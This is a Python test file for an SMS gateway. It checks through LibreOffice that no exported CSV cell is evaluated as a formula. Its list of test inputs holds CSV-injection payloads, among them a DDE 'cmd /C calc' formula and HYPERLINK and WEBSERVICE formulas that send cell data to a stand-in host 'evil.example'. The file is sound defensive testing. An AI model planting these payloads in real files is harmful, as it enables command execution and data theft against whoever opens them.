"""LibreOffice opens every CSV file that we write, full of texts that try to be formulas: none is calculated."""

import csv
import io
import os
import re
from collections.abc import Iterator
from contextlib import closing
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest

from mo_gateway import Join, Message, Reply, by_hand, keyword
from mo_gateway.by_hand import OptOut
from mo_gateway.gateway import Gateway, open_gateway
from mo_gateway.message import Outcome
from mo_gateway.reply import SendOutcome, SendResult
from mo_gateway.sheets import SHEETS
from mo_gateway.store import audit
from mo_gateway.store.audit import Actor, Deed
from mo_gateway.store.views import VIEWS
from mo_gateway.web import create_app
from mo_gateway.web.dashboard.routes import ROUTES
from tests.commands import invoke
from tests.conftest import settings_for
from tests.dashboard import everything
from tests.dashboard.happenings import write_routes
from tests.dashboard.visiting import visitor
from tests.dashboard.walking import walk
from tests.handling import dispatcher_of, handle_all
from tests.sending import Script, send_all, sender_of

from . import libreoffice
from .libreoffice import DUTCH, EMPTY, ENGLISH, Cell, cells, converted, formulas_in_excel

pytestmark = [
    pytest.mark.release,
    pytest.mark.timeout(1800),
    pytest.mark.skipif(
        libreoffice.PROGRAM is None and "CI" not in os.environ,
        reason="there is no soffice: apt-get install --no-install-recommends libreoffice-calc",
    ),
]

#: Every route that gives one.
FILES = {route.name for route in ROUTES if route.name.endswith("_file")}

SENDER = "32400000077"
SHORT = re.compile("[1-9][0-9]{0,7}")  # such as a shortcode: a number that is shown as it is typed

#: What people send who want whoever opens the file to do something for them.
TEXTS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "   =1+1",
    '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    '=DDE("soffice";"x";"y")',
    "two\n=1+1",
    "two\r\n=1+1",
    "a;=1+1",
    "a,=1+1",
    'a","=1+1',
    'a";"=1+1',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    '";=1+1;"',
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "\u22122+3",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "of:=1+1",
    "{=1+1}",
    "été 👋",
)
WORDS = ("=1+1", "+1+1", "-2+3", "@SUM(A1)", " =1+1", "a;=1+1", "a,=1+1", '"=1+1"', "'=1+1", "＝1+1", "＠SUM(A1)")


@keyword("ECHO")
def echo(message: Message) -> Reply:
    """Send back what came."""
    return Reply(message.parm)


@keyword("BREAK")
def give_up(message: Message) -> Reply:
    """Fail with what came."""
    raise type(f"={message.parm[:8]}", (Exception,), {})(message.parm)


@keyword("JOIN")
def join(_message: Message) -> Join:
    """Let somebody onto a list that is called like a formula."""
    return Join("=1+1")


@pytest.fixture
def gateway(database_url: str, tmp_path: Path) -> Iterator[Gateway]:
    """A gateway with a bit of everything, and with each of these texts wherever somebody can put one."""
    settings = settings_for(database_url, ROUTES=str(write_routes(tmp_path)), **everything.SETTINGS)
    with closing(open_gateway(settings)) as gateway:
        everything.fill(gateway)
        fill(gateway)
        yield gateway


def fill(gateway: Gateway) -> None:
    """Have the texts come as words, as texts, and as what handlers, providers and users say."""
    now = gateway.clock()
    for word in WORDS:
        come(gateway, KEYWORD=word, PARM=f"{word} {word}", REFERENCE=word)
    for number, text in enumerate(TEXTS):
        for word in ("ECHO", "BREAK"):
            come(gateway, KEYWORD=word, PARM=text, REFERENCE=str(number))
    come(gateway, KEYWORD="JOIN")
    handle_all(dispatcher_of(gateway, echo, give_up, join))
    provider = Script([SendResult(outcome=SendOutcome.FAILED, code=text, text=text) for text in TEXTS])
    send_all(sender_of(gateway, provider, clock=gateway.clock), provider)
    with gateway.engine.begin() as conn:
        for text in TEXTS:
            deed = Deed(action="reveal", subject="message 1", reason=text, details={text: text})
            audit.add(conn, Actor(name=text), deed, now)
    for number, text in enumerate(filter(str.isprintable, TEXTS)):
        wanted = OptOut(msisdn=f"3240000{number:04}", shortcode="4414", word=text)
        by_hand.add_opt_out(gateway.engine, wanted, gateway.settings.person_secret, Actor(name="an"), now)
    everything.count(gateway)


def come(gateway: Gateway, **fields: str) -> None:
    """Have one text come, as the provider brings it."""
    receipt = everything.send(gateway, "", at=gateway.clock(), MSISDN=SENDER, **fields)
    assert receipt.outcome is Outcome.STORED, fields


def exported(gateway: Gateway, folder: Path) -> dict[str, list[Path]]:
    """Write each file that commands and pages give; those with commas, and those with semicolons."""
    found: dict[str, list[Path]] = {",": [], ";": []}

    def write(name: str, content: bytes, separator: str) -> None:
        path = folder / f"{len(found[separator]):03}-{name}.csv"
        path.write_bytes(content)
        found[separator].append(path)

    for form, sheet in SHEETS.items():
        for view in VIEWS:
            result = invoke(gateway, "export", view.name, "--for", form, "--reveal")
            assert result.exit_code == 0, result.output
            write(f"{form}-{view.name}", result.stdout_bytes, sheet.delimiter)
    write("optouts", invoke(gateway, "optouts", "export", "--all").stdout_bytes, ",")
    for name, content in downloads(gateway):
        write(name, content, ";" if b"form=excel-nl" in name.encode() else ",")
    return found


def downloads(gateway: Gateway) -> Iterator[tuple[str, bytes]]:
    """Give every file to which a link of a page leads, and those with whole numbers."""
    somebody = visitor(gateway)
    files: dict[str, bytes] = {}

    def ask(address: str) -> tuple[int, str, str]:
        with somebody.client.get(address) as response:
            if response.mimetype == "text/csv":
                assert response.status_code == 200, address
                files[re.sub("[^a-z=-]+", "-", address)] = response.data
            return response.status_code, response.mimetype or "", response.get_data(as_text=True)

    been = walk(create_app(gateway), ask)
    assert {place.route for place in been if not place.is_page} == FILES
    yield from files.items()
    for path in ("/messages/file", "/replies/file", "/subscribers/file", "/subscribers/file?list=%3D1%2B1"):
        for form in ("csv", "excel-nl"):
            response = somebody.post(path, reason="an audit", file=form)
            assert response.status_code == 200, response.text
            yield f"whole-{path.strip('/').replace('/', '-')[:16]}-form={form}", response.data


def rows_of(path: Path, separator: str) -> list[list[str]]:
    content = io.StringIO(path.read_text("utf-8-sig"), newline="")
    return list(csv.reader(content, delimiter=separator, strict=True))


def is_same(cell: Cell, written: str) -> bool:
    """Tell whether a cell holds what is written: the text itself, or the very number or moment."""
    match cell.kind:
        case "":
            return written == ""
        case "string":
            return cell.value == written.replace("\r\n", "\n").replace("\r", "\n")
        case "float" | "percentage" | "currency":
            return _number(cell.value) == _number(written.replace(",", "."))
        case "boolean":
            return cell.value == written
        case _:
            return cell.kind == "date" and cell.value.replace("T", " ").startswith(written)


def _number(written: str) -> Decimal | None:
    try:
        return Decimal(written)
    except InvalidOperation:
        return None


def test_what_is_no_export_of_ours_is_calculated(tmp_path: Path) -> None:
    """Else nothing of the below would show anything."""
    raw = tmp_path / "raw.csv"
    raw.write_text('id,text\n1,=1+1\n2,"=HYPERLINK(""http://x"")"\n3,+1+1\n')

    (sheet,) = converted(tmp_path, [raw], "ods", ",", ENGLISH)
    (workbook,) = converted(tmp_path, [raw], "xlsx", ",", ENGLISH)

    assert [row[1].formula for row in cells(sheet)[1:3]] == ["of:=1+1", 'of:=HYPERLINK("http://x")']
    assert formulas_in_excel(workbook)[:2] == ["1+1", 'HYPERLINK("http://x")']


def test_no_cell_of_any_file_is_a_formula_and_every_text_is_there_as_it_was_written(
    gateway: Gateway, tmp_path: Path
) -> None:
    files = exported(gateway, tmp_path)
    assert all(len(found) > len(VIEWS) for found in files.values())

    for separator, language in ((",", ENGLISH), (";", DUTCH)):
        found = files[separator]
        for path, sheet in zip(found, converted(tmp_path, found, "ods", separator, language), strict=True):
            written, read = rows_of(path, separator), cells(sheet)

            assert [cell for row in read for cell in row if cell.formula] == [], path.name
            assert len(read) == len(written), path.name
            for row, line in zip(read, written, strict=True):
                row += [EMPTY] * (len(line) - len(row))
                assert [one for one in zip(row, line, strict=True) if not is_same(*one)] == [], path.name
        for path, workbook in zip(found, converted(tmp_path, found, "xlsx", separator, language), strict=True):
            assert formulas_in_excel(workbook) == [], path.name


def test_no_cell_is_a_formula_either_where_a_file_is_opened_with_the_other_separator(
    gateway: Gateway, tmp_path: Path
) -> None:
    files = exported(gateway, tmp_path)

    for separator, other, language in ((",", ";", DUTCH), (";", ",", ENGLISH)):
        for sheet in converted(tmp_path, files[separator], "ods", other, language):
            assert [cell for row in cells(sheet) for cell in row if cell.formula] == [], sheet.name


def test_in_the_sheets_for_excel_numbers_of_people_and_what_they_wrote_are_texts(
    gateway: Gateway, tmp_path: Path
) -> None:
    views = {
        "report_messages": ("person_key", "keyword", "parm"),
        "report_people_private": ("person_key", "msisdn"),
    }
    paths = []
    for view in views:
        paths.append(tmp_path / f"{view}.csv")
        paths[-1].write_bytes(invoke(gateway, "export", view, "--for", "excel-nl", "--reveal").stdout_bytes)

    for path, sheet in zip(paths, converted(tmp_path, paths, "ods", ";", DUTCH), strict=True):
        header, *rows = cells(sheet)
        names = [cell.value for cell in header]
        for name in views[path.stem]:
            column = names.index(name)
            found = [row[column] for row in rows if len(row) > column]

            assert len(found) > 5
            assert {cell.kind for cell in found} <= {"string", ""}, name
    assert SENDER in {cell.value.removeprefix("'") for row in rows for cell in row}
